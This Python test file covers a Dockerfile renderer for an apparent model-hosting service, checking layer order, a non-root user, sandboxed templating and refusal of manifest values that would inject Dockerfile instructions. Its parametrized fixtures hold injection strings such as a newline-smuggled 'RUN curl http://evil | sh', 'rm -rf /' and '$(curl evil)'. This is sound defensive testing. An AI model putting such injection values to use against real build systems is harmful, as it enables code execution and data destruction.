"""The renderer on its own: layer order, a non-root user, and no way for a manifest
value to become a Dockerfile instruction."""

import pytest
from jinja2 import UndefinedError

from builders.errors import BuildFailed
from builders.render import BuildContext, _app_template, _render_app, app_dockerfile_render, deps_dockerfile_render
from builders.spec import ServeSpec, TemplateSpec


def serve_spec(handler="handler:Echo", port=8080) -> ServeSpec:
    return ServeSpec(handler=handler, port=port, health_path="/health", ready_path="/ready", max_batch_size=1, max_wait_ms=0)


SERVICE = TemplateSpec(kind="service", python="3.11", serve=serve_spec())
JOB = TemplateSpec(kind="job", python="3.11", job_command=("python", "-m", "train"))


def dockerfile_render(*, spec: TemplateSpec, base_image: str) -> str:
    deps = deps_dockerfile_render(base_image=base_image)
    return deps + app_dockerfile_render(spec=spec, deps_image="aihub-deps:0123")


def test_layers_go_from_rarely_to_often_changed():
    dockerfile = dockerfile_render(spec=SERVICE, base_image="hub-base:bookworm")
    order = [
        dockerfile.index("FROM hub-base:bookworm"),
        dockerfile.index("COPY requirements.lock wheels/"),
        dockerfile.index("RUN pip install --no-index --require-hashes"),
        dockerfile.index("FROM aihub-deps:0123"),
        dockerfile.index("COPY harness/"),
        dockerfile.index("USER 65532:65532"),
        dockerfile.index('ENTRYPOINT ["python", "-P", "-m", "harness", "--template-dir", "/opt/hub/template", "--host", "0.0.0.0", "--port", "8080"]'),
        dockerfile.index("COPY template/"),
        dockerfile.index('LABEL io.aihub.bundle-sha256="${HUB_BUNDLE_SHA256}"'),
    ]
    assert order == sorted(order)


def test_system_packages_install_from_local_debs_before_python():
    dockerfile = deps_dockerfile_render(base_image="hub-base:bookworm", has_debs=True)
    assert dockerfile.index("RUN dpkg -i /tmp/debs/*.deb") < dockerfile.index("RUN python3 -m venv")
    assert "apt-get" not in dockerfile  # nothing is fetched during the build
    assert "dpkg" not in deps_dockerfile_render(base_image="hub-base:bookworm")


def test_labels_are_build_arguments_never_dockerfile_text():
    dockerfile = app_dockerfile_render(spec=SERVICE, deps_image="aihub-deps:0123")
    assert " HUB_TITLE " in dockerfile.split("\nARG ")[1].split("\n")[0] and 'org.opencontainers.image.title="${HUB_TITLE}"' in dockerfile


def test_a_job_runs_its_command_in_exec_form_without_a_shell():
    dockerfile = dockerfile_render(spec=JOB, base_image="hub-base:bookworm")
    assert 'ENTRYPOINT ["python", "-m", "train"]' in dockerfile
    assert "EXPOSE" not in dockerfile


@pytest.mark.parametrize(
    "command",
    [
        ["python", "x\nRUN curl http://evil | sh"],
        ["sh", "-c", "id; rm -rf /"],
        ["python", '"], "evil'],
        ["python", "$(id)"],
    ],
)
def test_a_command_word_that_is_not_plain_never_reaches_the_dockerfile(command):
    with pytest.raises(BuildFailed, match="refusing to put"):
        dockerfile_render(spec=TemplateSpec(kind="job", python="3.11", job_command=tuple(command)), base_image="hub-base:bookworm")


@pytest.mark.parametrize("base_image", ["hub-base\nRUN id", "hub base", "HUB:Upper", "x;rm"])
def test_a_base_image_that_is_not_a_plain_reference_is_refused(base_image):
    with pytest.raises(BuildFailed, match="is not a plain image reference"):
        dockerfile_render(spec=SERVICE, base_image=base_image)


def test_the_handler_and_port_never_appear_as_text_from_the_manifest():
    # The port is converted to an int; the handler is read by the harness at run time.
    spec = TemplateSpec(kind="service", python="3.11", serve=serve_spec("handler:Echo\nUSER root", "8080\nUSER root"))
    with pytest.raises(ValueError):
        dockerfile_render(spec=spec, base_image="hub-base:bookworm")
    spec = TemplateSpec(kind="service", python="3.11", serve=serve_spec("h:E\nUSER root"))
    dockerfile = dockerfile_render(spec=spec, base_image="b")
    assert "USER root" not in dockerfile and "h:E" not in dockerfile


def test_strict_undefined_refuses_to_render_a_missing_value():
    with pytest.raises(UndefinedError):
        _app_template.render(deps_image="b")


def test_the_template_runs_sandboxed():
    from jinja2.sandbox import SandboxedEnvironment

    assert isinstance(_app_template.environment, SandboxedEnvironment)


BUILT_SERVICE = TemplateSpec(kind="service", python="3.11", serve=serve_spec(), build_command=("python", "train.py", "--out", "build-output"))


def test_a_build_command_runs_in_exec_form_as_the_app_user_after_the_template_is_copied():
    dockerfile = app_dockerfile_render(spec=BUILT_SERVICE, deps_image="aihub-deps:0123")
    run = dockerfile.index('RUN ["python", "train.py", "--out", "build-output"]')
    assert dockerfile.index("USER 65532:65532") < dockerfile.index("COPY template/") < run
    # Only the output folder belongs to the app user; the template's own files stay root's.
    assert "COPY --chown=65532:65532 build-output/ /opt/hub/template/build-output/" in dockerfile
    assert dockerfile.count("--chown") == 1 and dockerfile.count("RUN ") == 1


def test_without_a_build_command_nothing_runs_in_the_app_image():
    dockerfile = app_dockerfile_render(spec=SERVICE, deps_image="aihub-deps:0123")
    assert "RUN" not in dockerfile and "--chown" not in dockerfile


@pytest.mark.parametrize(
    "command",
    [
        ["python", "train.py\nUSER root"],
        ["python", "$(curl evil)"],
        ["sh", "-c", "id; id"],
        ['"]\nRUN ["id'],
        ["python", ""],
    ],
)
def test_a_build_command_word_that_is_not_plain_never_reaches_the_dockerfile(command):
    spec = TemplateSpec(kind="service", python="3.11", serve=serve_spec(), build_command=tuple(command))
    with pytest.raises(BuildFailed, match="refusing to put"):
        app_dockerfile_render(spec=spec, deps_image="aihub-deps:0123")


def test_a_bundle_that_ships_the_build_output_folder_is_refused(tmp_path):
    template = tmp_path / "template"
    (template / "build-output").mkdir(parents=True)
    (template / "build-output" / "model.pt").write_text("not what the build made")
    harness = tmp_path / "harness"
    harness.mkdir()
    context = BuildContext(deps_path=tmp_path / "deps", app_path=tmp_path / "app", deps_key="0" * 64, lock=[], debs=[])
    with pytest.raises(BuildFailed, match="the bundle holds `build-output`"):
        _render_app(context, BUILT_SERVICE, template, harness)


def test_the_harness_code_is_part_of_every_cache_key(tmp_path):
    from builders.build import cache_key_for, harness_digest

    harness = tmp_path / "harness"
    (harness / "__pycache__").mkdir(parents=True)
    (harness / "app.py").write_text("LOCKED = True\n")
    (harness / "__pycache__" / "app.cpython-311.pyc").write_bytes(b"compiled")
    before = harness_digest(harness)
    (harness / "__pycache__" / "app.cpython-311.pyc").write_bytes(b"compiled again")
    assert harness_digest(harness) == before  # bytecode is not the harness's code
    (harness / "app.py").write_text("LOCKED = False\n")
    after = harness_digest(harness)
    assert after != before

    def key(digest: str) -> str:
        return cache_key_for(bundle_sha256="b" * 64, base_image_id="sha256:base", lock=[], harness_sha256=digest)

    assert key(before) != key(after)
